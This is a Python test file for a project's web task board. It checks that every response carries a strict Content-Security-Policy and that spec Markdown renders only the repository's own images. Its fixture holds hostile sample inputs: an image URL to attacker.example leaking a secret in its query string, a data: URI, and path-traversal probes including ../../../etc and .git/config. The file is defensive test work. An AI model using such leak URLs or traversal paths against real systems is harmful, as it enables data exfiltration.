"""The web board loads only what is its own (issue 46): every response, a refusal included,
carries a strict Content-Security-Policy (no external image, script, frame or form target); a
Markdown image in a spec renders only when it is a file of the repository (served by the board
from the integration branch), and any other (a URL carrying what an agent put in it, `data:`, a
path out of the repository) is text."""
from __future__ import annotations

import base64
from pathlib import Path

from tests.conftest import git
from tests.web.conftest import TOKEN, authed, client

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
                       "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
SPEC = """# Spec

![diagram](diagram.png)
![leak](http://attacker.example/p.png?leak=SECRET-IN-URL)
![proto](//attacker.example/p.png)
![data](data:image/png;base64,AAAA)
![up](../../../etc/p.png)
![script](pictures/evil.svg)
[a link stays a link](https://example.org/)
"""


def _board(repo: Path, extra: str = "") -> None:
    from gitliza.core.ops import Add, Init
    from gitliza.services.api import Liza
    from gitliza.services.lifecycle.integration import ensure_integration_branch
    (repo / "specs").mkdir()
    (repo / "specs" / "img.md").write_text(SPEC + extra)
    (repo / "specs" / "diagram.png").write_bytes(PNG)
    git(repo, "add", "specs")
    git(repo, "commit", "-q", "-m", "a spec with images")
    human = Liza.open(repo, "human")
    done = human.do(Init, goal="build it")
    ensure_integration_branch(human, done.outcome.board.config.integration_branch)
    human.do(Add, task="t1", description="d", spec_ref="specs/img.md", done_when="w",
             scope="s", ready=True)


def _strict(headers: object) -> None:
    csp = headers["content-security-policy"]  # type: ignore[index]
    for part in ("default-src 'none'", "img-src 'self'", "script-src 'self'",
                 "style-src 'self'", "frame-ancestors 'none'", "frame-src 'none'",
                 "form-action 'self'"):
        assert part in csp, csp
    assert "http" not in csp and "*" not in csp and "unsafe" not in csp, csp


def test_every_response_carries_a_strict_csp(repo: Path) -> None:
    _board(repo)
    with client(repo) as c:
        refused = c.get("/")  # no token yet: the guard's refusal
        assert refused.status_code in (401, 403)
        _strict(refused.headers)
        authed(c)
        for url in ("/", "/task/t1", "/fragment/task/t1", "/log", "/pictures", "/api/board",
                    "/pygments.css", "/static/style.css", "/static/board.js",
                    "/repo/specs/diagram.png", "/repo/specs/img.md", "/task/nope"):
            r = c.get(url)
            _strict(r.headers)


def test_only_the_repositorys_own_images_render(repo: Path) -> None:
    _board(repo)
    with client(repo) as c:
        page = authed(c).get("/task/t1").text
        assert '<img src="/repo/specs/diagram.png" alt="diagram">' in page
        assert page.count("<img") == 1, page
        for shown in ("http://attacker.example/p.png?leak=SECRET-IN-URL",
                      "//attacker.example/p.png", "data:image/png;base64,AAAA",
                      "../../../etc/p.png", "pictures/evil.svg"):
            assert f"({shown})]</span>" in page, shown  # as text, never fetched
        assert '<a href="https://example.org/">a link stays a link</a>' in page
        r = c.get("/repo/specs/diagram.png")
        assert r.status_code == 200 and r.content == PNG
        assert r.headers["content-type"] == "image/png"
        for bad in ("/repo/specs/img.md", "/repo/specs/missing.png", "/repo/../x.png",
                    "/repo/.git/config"):
            assert c.get(bad).status_code == 404, bad
    # The one place that draws colour: SVG presentation, no inline style attribute anywhere.
    with client(repo) as c:
        authed(c)
        for url in ("/", "/pictures", "/task/t1"):
            assert "style=" not in c.get(url).text, url
